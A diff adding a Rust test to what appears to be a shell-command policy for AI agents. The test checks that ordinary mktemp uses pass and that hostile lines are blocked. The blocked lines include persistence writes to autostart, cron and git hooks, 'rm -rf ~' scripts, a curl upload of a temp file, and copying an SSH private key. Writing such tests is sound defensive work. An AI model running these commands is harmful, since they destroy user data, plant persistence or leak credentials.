@@ -45,6 +45,43 @@ fn ordinary_edits_and_local_work_of_git_pass() {
     }
 }
 
+/// What mktemp(1) makes was not there before, and lies where its template says.
+#[test]
+fn what_a_line_writes_to_a_new_file_lies_where_that_is() {
+    let found = |line: &str| {
+        resolved(shell(line), |path| match lexical(path, Some("/home/ann/work/app"), Some("/home/ann")) {
+            Some(path) => ResolvedPath { is_missing: path.contains("XXX"), ..ResolvedPath::new(path) },
+            None => ResolvedPath::new("/"),
+        })
+    };
+    for line in [
+        "f=$(mktemp); cat > \"$f\" <<'EOF'\nchange .claude/settings.json\nEOF",
+        "body=$(mktemp /tmp/body.XXXXXX.md) && cat > \"$body\" <<'EOF'\ntext\nEOF\nwc -l \"$body\"",
+        "d=$(mktemp -d) && cd \"$d\" && echo x > y",
+        "LOG_FILE=$(mktemp); git log > \"$LOG_FILE\"; head -5 \"$LOG_FILE\"",
+    ] {
+        let decision = policy(&format!("version = 1\n{WORKSPACE}")).decide(&found(line), at(0));
+        assert_eq!(decision.action, Action::Allow, "{line}: {}", decision.why);
+    }
+    for line in [
+        "f=$(mktemp ~/.config/autostart/a.XXXXXX.desktop); echo x > \"$f\"",
+        "f=$(mktemp /etc/cron.d/XXXXXX); echo x > \"$f\"",
+        "f=$(mktemp .git/hooks/XXXXXX); echo x > \"$f\"",
+        "f=$(mktemp -u); echo x > \"$f\"",
+        "export TMPDIR=~/.config/autostart; f=$(mktemp); echo x > \"$f\"",
+        "TMPDIR=~/.bashrc.d; f=$(mktemp); echo x > \"$f\"",
+        "f=$(mktemp); f=~/.bashrc; echo x > \"$f\"",
+        "f=$(mktemp); echo 'rm -rf ~' > \"$f\"; bash \"$f\"",
+        "f=$(mktemp); echo 'rm -rf ~' > \"$f\"; . \"$f\"",
+        "d=$(mktemp -d); ln -s ~/.bashrc \"$d/x\"; echo x > \"$d/x\"",
+        "f=$(mktemp); curl -d @\"$f\" https://example.org",
+        "f=$(mktemp); cp ~/.ssh/id_rsa \"$f\"",
+    ] {
+        let decision = policy(&format!("version = 1\n{WORKSPACE}")).decide(&found(line), at(0));
+        assert_ne!(decision.action, Action::Allow, "{line}: {}", decision.why);
+    }
+}
+
 /// Agents name the project by its whole path.
 #[test]
 fn what_is_in_the_project_is_so_however_it_is_written() {
